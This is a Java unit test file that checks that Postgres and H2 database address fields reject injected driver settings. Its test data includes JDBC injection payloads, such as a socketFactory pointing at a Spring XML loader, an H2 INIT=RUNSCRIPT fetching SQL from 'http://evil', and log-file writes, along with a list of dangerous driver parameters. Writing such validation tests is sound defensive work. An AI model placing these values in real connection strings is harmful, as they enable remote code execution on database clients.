package io.crisol.data.database;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.crisol.finding.UsageException;
import java.util.HashMap;
import java.util.Map;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** No field can carry a setting, another address or code to a driver. */
class AddressFieldsTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "db.example.org:5432/x?socketFactory=evil",
                "localhost/?loggerFile=/tmp/x",
                "localhost?sslfactory=x",
                "a,b",
                "host;INIT=RUNSCRIPT",
                "/var/run/postgresql",
                "user@host",
                "host#x",
                "host\nnext",
                "[::1]/x?a=b",
                "-option",
                "%2e%2e",
                "::1%eth0"
            })
    void aHostIsANameOrAnAddressAndNothingElse(String host) {
        assertThatThrownBy(() -> new PostgresAddress(host, 5432, "crm", "ana", Map.of()))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("database.field.host");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "crm?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext",
                "crm&socketFactoryArg=http://evil/x.xml",
                "crm;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "../crm",
                "crm/other",
                "crm\\x",
                "crm%3Fa",
                "crm#x",
                "crm='x'",
                "cr\u0000m",
                "?"
            })
    void theNameOfADatabaseCarriesNoSettings(String name) {
        assertThatThrownBy(() -> new PostgresAddress("localhost", 5432, name, "ana", Map.of()))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("database.field.database");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                " ",
                "crm;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                "crm;TRACE_LEVEL_FILE=4",
                "/tmp/crm;SCRIPT",
                "mem:crm",
                "tcp://evil/crm",
                "ssl://evil/crm",
                "zip:/tmp/x.zip!/crm",
                "split:/tmp/crm",
                "nio:/tmp/crm",
                "jdbc:h2:mem:x",
                "http://evil/crm",
                "//evil/share/crm",
                "\\\\evil\\share\\crm",
                "/tmp/x.zip!/crm",
                "crm\nnext",
                "crm%3B",
                "C:tcp:x",
                "*"
            })
    void aFileIsAPathOfThisMachineWithoutSettings(String file) {
        assertThatThrownBy(() -> new H2Address(file, "ana", Map.of()))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("database.field.file");
    }

    @ParameterizedTest
    @ValueSource(strings = {"", "ana;x", "ana?x=y", "ana&x", "ana\n", "ana/x", "ana=x", "-ana"})
    void aUserIsANameAndNothingElse(String user) {
        assertThatThrownBy(() -> new H2Address("crm", user, Map.of()))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("database.field.user");
    }

    @ParameterizedTest
    @CsvSource({
        "socketFactory,x",
        "socketFactoryArg,x",
        "sslfactory,x",
        "sslhostnameverifier,x",
        "sslpasswordcallback,x",
        "loggerFile,/tmp/x",
        "loggerLevel,TRACE",
        "authenticationPluginClassName,x",
        "xmlFactoryFactory,x",
        "options,-c x=y",
        "service,x",
        "password,x",
        "readOnly,false"
    })
    void onlyListedSettingsOfPostgresAreTaken(String name, String value) {
        assertThatThrownBy(() -> new PostgresAddress("localhost", 5432, "crm", "ana", Map.of(name, value)))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("database.parameter");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {"INIT", "TRACE_LEVEL_FILE", "SCRIPT", "ACCESS_MODE_DATA", "CIPHER", "AUTO_SERVER", "MODE", "init"
            })
    void onlyListedSettingsOfH2AreTaken(String name) {
        assertThatThrownBy(() -> new H2Address("crm", "ana", Map.of(name, "x")))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("database.parameter");
    }

    @ParameterizedTest
    @CsvSource({
        "sslmode,none",
        "sslmode,require;x",
        "currentSchema,a;b",
        "currentSchema,'a,b'",
        "connectTimeout,0",
        "connectTimeout,61",
        "connectTimeout,1e1"
    })
    void aListedSettingTakesOnlyItsValues(String name, String value) {
        assertThatThrownBy(() -> new PostgresAddress("localhost", 5432, "crm", "ana", Map.of(name, value)))
                .isInstanceOf(UsageException.class)
                .hasMessageContaining("database.field." + name);
    }

    @ParameterizedTest
    @ValueSource(ints = {0, -1, 65_536})
    void aPortIsInItsRange(int port) {
        assertThatThrownBy(() -> new PostgresAddress("localhost", port, "crm", "ana", Map.of()))
                .isInstanceOf(UsageException.class);
    }

    @Test
    void whatIsUsualIsTakenAndStandsAloneInTheDriversAddress() {
        PostgresAddress plain = new PostgresAddress("db-1.example.org", 5433, "ventas año_2", "ana@x", Map.of());
        PostgresAddress six = new PostgresAddress("2001:db8::1", 5432, "crm", "ana", Map.of("sslmode", "verify-full"));

        assertThat(PostgresUrl.of(plain)).isEqualTo("jdbc:postgresql://db-1.example.org:5433/ventas+a%C3%B1o_2");
        assertThat(PostgresUrl.of(six)).isEqualTo("jdbc:postgresql://[2001:db8::1]:5432/crm");
        assertThat(new H2Address("C:\\datos\\crm.mv.db", "sa", Map.of("schema", "VENTAS")).label())
                .isEqualTo("crm.mv.db");
        assertThat(new H2Address("/home/ana/años/crm", "sa", Map.of()).fileWithEnding())
                .isEqualTo("/home/ana/años/crm.mv.db");
    }

    @Test
    void laterChangesOfTheGivenSettingsHaveNoEffect() {
        Map<String, String> settings = new HashMap<>(Map.of("sslmode", "require"));
        PostgresAddress address = new PostgresAddress("localhost", 5432, "crm", "ana", settings);

        settings.put("socketFactory", "evil");

        assertThat(address.parameters()).containsOnlyKeys("sslmode");
    }
}
